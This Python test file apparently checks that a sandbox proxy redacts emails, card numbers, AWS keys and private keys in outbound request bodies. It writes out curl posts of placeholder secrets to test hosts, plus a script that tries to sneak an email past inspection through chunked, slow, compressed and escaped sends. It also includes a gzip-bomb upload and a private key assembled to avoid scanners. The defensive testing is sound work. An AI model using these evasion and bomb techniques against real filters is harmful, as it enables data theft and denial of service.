"""Attacks by what is sent: personal data and keys in request bodies. E31, E32."""
import json
import unittest

import attack

INSPECTED = {"allowOut": ["a.test", "*.b.test"], "denyOut": ["0.0.0.0/0"],
             "rules": {"a.test": [{"transform": {"headers": {"X-Rule": "here"}}}]}}
AWS, CARD, MAIL = "AKIAIOSFODNN7EXAMPLE", "4111 1111 1111 1111", "jane.doe@example.com"
# Put together here: no scanner shall take this file for a leak.
PEM = "\n".join(["-----BEGIN " + "PRIVATE KEY-----", "MC4CAQAwBQYDK2VwBCIEIKu8wUNzZ3Vh0x8o2hT9p5sYb1Qm4e7a",
                 "-----END " + "PRIVATE KEY-----"])
SECRETS = {"aws": AWS, "card": CARD, "mail": MAIL, "pem": PEM}


def setUpModule():
    attack.begin("--sanitise-streams", "enforce")


def post(sandbox, body, user, options="", url="https://a.test/echo"):
    """Sends a body that is in a file; what came back."""
    sandbox.put("/tmp/body", body if isinstance(body, bytes) else body.encode())
    return sandbox.sh(f"curl -sS -m 20 {options} --data-binary @/tmp/body {url}", user=user)[1]


def bodies(seen):
    return "".join(line["text"] for line in seen.lines("web", "body"))


class Content(attack.Case):
    def test_E31_prompts(self, user):
        sandbox = self.sandbox(network=INSPECTED)
        body = json.dumps({"model": "x", "messages": [{"role": "user", "content": f"{what}: {text}"}
                                                      for what, text in SECRETS.items()]})
        before = attack.bed.now()
        post(sandbox, body, user, "-H 'Content-Type: application/json'")
        got = bodies(before)
        for what, text in SECRETS.items():
            self.assertNotIn(json.dumps(text)[1:-1], got, what)
            self.assertNotIn(text.splitlines()[min(1, text.count("\n"))], got, what)
        self.assertEqual([m["content"].partition(":")[0] for m in json.loads(got)["messages"]], list(SECRETS))
        [record] = self.on_record(sandbox, kind="sanitise", name="a.test")
        self.assertRegex(record["detail"], r"email=1\b.*card=1|card=1\b.*email=1|email=1")
        self.assertNotIn(MAIL, json.dumps(attack.records(sandbox)))

    def test_E31_plain_http_too(self, user):
        sandbox = self.sandbox(network=INSPECTED)
        before = attack.bed.now()
        post(sandbox, f"mail {MAIL} key {AWS}", user, url="http://a.test/echo")
        got = bodies(before)
        self.assertTrue("mail" in got and MAIL not in got and AWS not in got, got)

    def test_E32_evasions_that_are_caught(self, user):
        sandbox = self.sandbox(network=INSPECTED)
        form = "\r\n".join(["--x", 'Content-Disposition: form-data; name="f"; filename="f.txt"', "", MAIL, "--x--", ""])
        escaped = MAIL.replace("@", "\\u0040").replace("j", "\\u006a", 1)
        deep = "x" * 70_000 + " " + MAIL + " " + "y" * 70_000
        code = """
import gzip
def send(head, pieces, pause):
    context = ssl.create_default_context()
    fake = resolve("a.test")[1][0]
    with connect(fake, 443) as s, context.wrap_socket(s, server_hostname="a.test") as t:
        t.sendall(b"POST /echo HTTP/1.1\\r\\nHost: a.test\\r\\nConnection: close\\r\\n")
        t.sendall(head.encode() + b"\\r\\n\\r\\n")
        for piece in pieces:
            t.sendall(piece)
            time.sleep(pause)
        return rest(t)
mail = sys.argv[1].encode()
chunks = [b"%x\\r\\n%s\\r\\n" % (1, mail[i:i + 1]) for i in range(len(mail))] + [b"0\\r\\n\\r\\n"]
packed = gzip.compress(b"to " + mail + b" now")
show([attempt(send, "Transfer-Encoding: chunked", chunks, 0.002),
      attempt(send, f"Content-Length: {len(mail)}", [mail[i:i + 1] for i in range(len(mail))], 0.002),
      attempt(send, f"Content-Encoding: gzip\\r\\nContent-Length: {len(packed)}", [packed], 0),
      attempt(send, f"Content-Encoding: deflate\\r\\nContent-Length: {len(packed)}", [packed], 0),
      attempt(send, f"Content-Encoding: br\\r\\nContent-Length: {len(packed)}", [packed], 0)])
"""
        before = attack.bed.now()
        self.probe(sandbox, code, user, MAIL)
        post(sandbox, form, user, "-H 'Content-Type: multipart/form-data; boundary=x'")
        post(sandbox, f'{{"prompt": "{escaped}"}}', user)
        post(sandbox, deep, user, "-o /tmp/deep-$USER")
        got = bodies(before)
        deep = sandbox.get(f"/tmp/deep-{user}").body.decode()
        self.assertIn("[EMAIL]", deep)
        for form in (MAIL, escaped, MAIL.partition("@")[2]):
            self.assertNotIn(form, got + deep)

    def test_E32_a_body_that_unpacks_to_too_much(self, user):
        sandbox = self.sandbox(network=INSPECTED)
        rss = attack.host.rss_mib(self.guard)
        out = sandbox.sh("head -c 300000000 /dev/zero | gzip -9 >/tmp/bomb-$USER.gz; curl -sS -m 30 -o /dev/null -w "
                         "'%{http_code}' -H 'Content-Encoding: gzip' -H Expect: "
                         "--data-binary @/tmp/bomb-$USER.gz https://a.test/upload", user=user)[1]
        self.assertLess(attack.host.rss_mib(self.guard) - rss, 32)
        self.assertRegex(out, r"^4\d\d|000", out)

    def test_E32_names_without_a_rule_are_not_looked_into(self, user):
        """Said so in the documents: who needs it gives the name a rule."""
        sandbox = self.sandbox(network=INSPECTED)
        trust = sandbox.trust()
        before = attack.bed.now()
        self.sh(sandbox, f"{trust}; curl -sS -m 20 -d '{MAIL}' https://x.b.test/echo", user)
        self.assertEqual(bodies(before), MAIL)


if __name__ == "__main__":
    unittest.main()
